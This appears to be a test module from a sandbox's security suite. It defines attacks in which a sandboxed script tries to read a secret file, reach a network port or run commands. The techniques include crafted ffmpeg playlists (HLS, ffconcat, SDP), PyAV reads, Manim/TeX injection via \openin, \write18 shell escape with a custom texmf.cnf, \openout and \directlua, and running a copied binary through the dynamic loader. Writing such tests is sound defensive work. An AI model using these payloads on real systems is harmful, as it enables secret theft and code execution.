r"""Attacks 25 and 26: programs that read what scripts write. ffmpeg follows lists, TeX runs files."""

import contextlib

from runner.media.errors import MediaError
from runner.media.probe import probe_video
from tests.runner.sandbox.attacks.attack import (
    SHORT,
    Aftermath,
    Attack,
    any_of,
    harms_host,
    is_believed,
    reaches,
    tells_secret,
)
from tests.runner.sandbox.attacks.neighbours import changes_outside
from tests.runner.sandbox.attacks.outside import Outside

SLOW = SHORT.model_copy(update={"seconds": 15.0})


def leads_reader_astray(outside: Outside, after: Aftermath) -> str:
    """Whoever probes what the host approved, as the pipeline does, opens what the playlist names."""
    with contextlib.suppress(MediaError, OSError):
        probe_video(after.video)
    return reaches(outside, after)


def _playlist(number: str, name: str, text: str) -> Attack:
    body = f"""
leave_a_result()
Path("section.mp4").write_text({text}.format(**given))
did("write a playlist")
sys.stdout.flush()
os._exit(0)
"""
    return Attack(
        number,
        f"{name} playlist as the video",
        "Gets whoever reads its video to open an address or a file of its choice.",
        body,
        reason="not rendered|video|section was rendered|DENIED",
        achieved=any_of(is_believed, leads_reader_astray, harms_host),
    )


_FFMPEG = """
COPY = ("-map", "0", "-c", "copy", "-f", "data", "-")

def ffmpeg(*words):
    order = ["/usr/bin/ffmpeg", "-nostdin", "-loglevel", "error", *words]
    done = subprocess.run(order, capture_output=True, text=True, errors="replace", timeout=5)
    if done.returncode:
        raise RuntimeError(done.stderr[-200:])
    return done.stdout
"""

_TEX = r"""
def tex(body, *options, program="latex", extra=()):
    name = f"t{time.monotonic_ns()}"
    Path(f"{name}.tex").write_text("\\documentclass{article}\\begin{document}" + body + "\\end{document}")
    order = [program, "-interaction=nonstopmode", *options, f"{name}.tex"]
    subprocess.run(order, capture_output=True, timeout=12, env={**os.environ, **dict(extra)})
    return Path(f"{name}.log").read_text(errors="replace").replace("\n", "")


def told(text):
    return [line for line in text.split("FOUND:")[1:]]
"""

_READ = r"""
_READ = (
    r"\newread\f\openin\f=%s \ifeof\f\typeout{NOTHING}\else\read\f to\x\typeout{FOUND:\x}\fi"
)
"""

TOOLS = (
    _playlist(
        "25a",
        "HLS",
        "'#EXTM3U\\n#EXT-X-TARGETDURATION:9\\n#EXTINF:9,\\nhttp://127.0.0.1:{tcp_port}/a.ts\\n#EXTINF:9,\\n"
        "file://{secret_file}\\n#EXT-X-ENDLIST\\n'",
    ),
    _playlist(
        "25b",
        "concat",
        "'ffconcat version 1.0\\nfile http://127.0.0.1:{tcp_port}/a.mp4\\nfile {secret_file}\\n'",
    ),
    _playlist(
        "25c",
        "SDP",
        "'v=0\\no=- 0 0 IN IP4 127.0.0.1\\ns=x\\nc=IN IP4 127.0.0.1\\nt=0 0\\nm=video 0 RTP/AVP 96\\n'",
    ),
    Attack(
        "25d",
        "ffmpeg called by the script",
        "Lets ffmpeg read a file and fetch an address.",
        f"""{_FFMPEG}
@attempt("a file")
def _():
    return ffmpeg("-f", "data", "-i", "file:" + given["secret_file"], *COPY)

@attempt("an address")
def _():
    return ffmpeg("-f", "data", "-i", f"http://127.0.0.1:{{given['tcp_port']}}/", *COPY)

""",
        achieved=reaches,
    ),
    Attack(
        "25e",
        "the ffmpeg inside Python",
        "Lets the library that encodes its own frames read a file and fetch an address.",
        """
import av
for name in (f"http://127.0.0.1:{given['tcp_port']}/", "file:" + given["secret_file"]):
    @attempt(name.split(":")[0])
    def _(name=name):
        with av.open(name, format="data", timeout=3) as container:
            return bytes(next(container.demux())).decode()

@attempt("writing")
def _():
    with av.open(f"tcp://127.0.0.1:{given['tcp_port']}", "w", format="mpegts") as container:
        container.add_stream("mpeg2video", rate=10)
""",
        achieved=reaches,
    ),
    Attack(
        "26a",
        "Manim's TeX reads a file",
        "Gets a secret into a formula, or into TeX's log, through Manim's own Tex.",
        r"""
from manim import Tex, config
config.no_latex_cleanup = True
ways = (
    r"\newread\f\openin\f=%s \ifeof\f x\else\read\f to\x\typeout{FOUND:\x}\fi ",
    r"\catcode`\_=12 \input{%s}",
)
for number, order in enumerate(ways):
    @attempt(f"reading, way {number}")
    def _():
        try:
            Tex("a " + order % given["secret_file"] + "b")
        finally:
            logs = [path.read_text(errors="replace") for path in Path("media/Tex").glob("*.log")]
        found = "".join(logs).replace("\n", "").split("FOUND:")[1:]
        return [text[:40] for text in found] or ("typeset" if number == 1 else "")
""",
        achieved=any_of(tells_secret, lambda outside, after: _typeset(after)),
        limits=SLOW,
    ),
    Attack(
        "26b",
        "Manim's TeX runs a program",
        r"Runs a program from a formula by \write18, with and without leave from a configuration of its own.",
        r"""
from manim import Tex
import manim
mark = Path(given["open_folder"]) / "poison"
order = r"\immediate\write18{/bin/sh -c 'id > %s'}a" % mark
@attempt("as it is")
def _():
    Tex(order)
    return "ran" if mark.exists() else ""

Path("texmf.cnf").write_text("shell_escape = t\nopenin_any = a\nopenout_any = a\n")
os.environ.update(TEXMFCNF=f"{os.getcwd()}:", shell_escape="t", openin_any="a", openout_any="a")
@attempt("with a configuration of its own")
def _():
    Tex(order + "b")
    return "ran" if mark.exists() else ""
""",
        achieved=changes_outside,
        limits=SLOW,
    ),
    Attack(
        "26c",
        "Manim's TeX writes a file",
        r"Writes outside its folder from a formula by \openout.",
        r"""
from manim import Tex
os.environ.update(openout_any="a")
@attempt("openout")
def _():
    place = given["open_folder"] + "/poison.tex"
    Tex(r"\newwrite\f\immediate\openout\f=%s \immediate\write\f{poison}\immediate\closeout\f a" % place)
    return "written" if Path(place).exists() else ""
""",
        achieved=changes_outside,
        limits=SLOW,
    ),
    Attack(
        "26d",
        "TeX called by the script",
        "Calls TeX itself, with every leave that its options give.",
        f"""{_TEX}{_READ}
@attempt("reading")
def _():
    return told(tex(_READ % given["secret_file"], extra=[("openin_any", "a")]))

@attempt("running a program")
def _():
    mark = given["open_folder"] + "/poison"
    tex(r"\\immediate\\write18{{cp %s %s}}x" % (given["secret_file"], mark), "-shell-escape")
    return Path(mark).read_text()

@attempt("a program in Lua")
def _():
    lua = r"\\directlua{{local f = io.open('%s') texio.write_nl('FOUND:' .. f:read('*a'))}}x"
    return told(tex(lua % given["secret_file"], "--shell-escape", program="lualatex"))
""",
        achieved=any_of(tells_secret, changes_outside),
        limits=SLOW,
    ),
    Attack(
        "28f",
        "program of its own by the loader",
        "Lets the system's loader run a program from its folder: it may, but that program may no more.",
        """
@attempt("a secret")
def _():
    shutil.copyfile("/bin/cat", "program")
    loader = next(Path("/lib64").glob("ld-linux*"), None) or next(Path("/lib").glob("ld-linux*"))
    order = [str(loader), "./program", given["secret_file"]]
    told = subprocess.run(order, capture_output=True, text=True)
    did("run the program", told.stderr)
    print(told.stdout)
""",
        reason="DID run the program - ./program: .*Permission denied",
        achieved=tells_secret,
    ),
)


def _typeset(after: Aftermath) -> str:
    lines = [line for line in after.answer.log.splitlines() if line.startswith("ACHIEVED reading, way")]
    return "; ".join(line[:60] for line in lines)
